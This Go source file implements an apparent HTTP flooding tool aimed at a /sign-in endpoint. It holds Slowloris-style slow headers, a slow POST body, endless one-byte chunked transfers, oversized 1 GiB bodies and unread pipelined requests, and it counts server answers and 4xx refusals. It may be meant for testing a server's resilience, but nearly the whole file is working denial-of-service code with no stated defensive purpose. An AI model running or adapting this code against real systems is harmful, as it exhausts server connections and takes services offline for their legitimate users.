package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"time"
)

const trickle = 500 * time.Millisecond

// idle waits for the other side to end the connection.
func (f *flood) idle(_ context.Context, c net.Conn) error {
	_, err := io.Copy(io.Discard, c)
	return over(err)
}

// over returns an error even if the other side has closed the connection in good order.
func over(err error) error {
	if err == nil {
		return io.EOF
	}
	return err
}

// drip sends text again and again, slowly, until the connection ends. It reads what comes back and
// counts the answers.
func (f *flood) drip(ctx context.Context, c net.Conn, text string) error {
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	go func() {
		defer cancel()
		f.hear(c)
	}()
	t := time.NewTicker(trickle)
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			return io.EOF
		case <-t.C:
			if err := f.send(c, text); err != nil {
				return err
			}
		}
	}
}

// hear reads until the connection ends, and counts the answers.
func (f *flood) hear(c net.Conn) {
	buf := make([]byte, 4096)
	for {
		n, err := c.Read(buf)
		if bytes.HasPrefix(buf[:n], []byte("HTTP/1.1 ")) {
			f.answers.Add(1)
			if bytes.HasPrefix(buf[:n], []byte("HTTP/1.1 4")) {
				f.refused.Add(1)
			}
		}
		if err != nil {
			return
		}
	}
}

func (f *flood) send(c net.Conn, text string) error {
	n, err := io.WriteString(c, text)
	f.sent.Add(int64(n))
	return err
}

// post is the head of a form for /sign-in.
func (f *flood) post(length string) string {
	return fmt.Sprintf("POST /sign-in HTTP/1.1\r\nHost: %s\r\nContent-Type: "+
		"application/x-www-form-urlencoded\r\n%s\r\n\r\n", f.host, length)
}

func (f *flood) slowHead(ctx context.Context, c net.Conn) error {
	f.requests.Add(1)
	if err := f.send(c, "GET /sign-in HTTP/1.1\r\nHost: "+f.host+"\r\n"); err != nil {
		return err
	}
	return f.drip(ctx, c, "X-More: more\r\n")
}

func (f *flood) slowBody(ctx context.Context, c net.Conn) error {
	f.requests.Add(1)
	if err := f.send(c, f.post("Content-Length: 8000")); err != nil {
		return err
	}
	return f.drip(ctx, c, "x")
}

func (f *flood) chunks(ctx context.Context, c net.Conn) error {
	f.requests.Add(1)
	if err := f.send(c, f.post("Transfer-Encoding: chunked")); err != nil {
		return err
	}
	return f.drip(ctx, c, "1;more=more\r\nx\r\n")
}

// largeBody alternates between a length that is refused at once and a body of unknown length.
func (f *flood) largeBody(_ context.Context, c net.Conn) error {
	length, chunk := "Content-Length: 1073741824", strings.Repeat("x", 32<<10)
	if f.requests.Add(1)%2 == 0 {
		length, chunk = "Transfer-Encoding: chunked", "8000\r\n"+chunk+"\r\n"
	}
	if err := f.send(c, f.post(length)); err != nil {
		return err
	}
	go f.hear(c)
	for range 32 << 10 {
		if err := f.send(c, chunk); err != nil {
			return err
		}
	}
	return nil
}

// pipeline asks for a page again and again and reads nothing.
func (f *flood) pipeline(_ context.Context, c net.Conn) error {
	for {
		f.requests.Add(1)
		if err := f.send(c, "GET /sign-in HTTP/1.1\r\nHost: "+f.host+"\r\n\r\n"); err != nil {
			return err
		}
	}
}
